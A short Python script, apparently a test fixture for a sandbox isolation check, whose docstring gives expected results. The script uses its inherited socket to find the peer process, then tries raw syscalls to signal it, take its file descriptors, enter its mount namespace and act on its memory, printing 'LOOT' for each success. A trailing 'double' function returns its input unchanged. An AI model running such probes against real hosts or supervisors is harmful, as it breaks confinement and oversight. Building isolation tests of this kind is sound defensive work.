"""Asks its link who is at the other end, and uses the handle: a signal, a descriptor, a namespace.

most: 0
control: no
"""

import ctypes
import os
import platform
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
setns = 308 if platform.machine() == "x86_64" else 268
link = socket.socket(fileno=os.dup(3))
handles = []
try:
    handles.append(struct.unpack("i", link.getsockopt(socket.SOL_SOCKET, 77, 4))[0])  # SO_PEERPIDFD
except OSError:
    pass
pid = struct.unpack("3i", link.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
handles.append(libc.syscall(434, pid, 0))
for handle in handles:
    if handle >= 0:
        for name, arguments in {
            "signal": (424, handle, 0, None, 0),
            "descriptor": (438, handle, 0, 0),
            "namespace": (setns, handle, 1 << 17),
            "memory": (448, handle, 0),
        }.items():
            if libc.syscall(*arguments) >= 0:
                print("LOOT", name)
try:
    os.kill(pid, 0)
    print("LOOT kill")
except OSError:
    pass


def double(x):
    return x
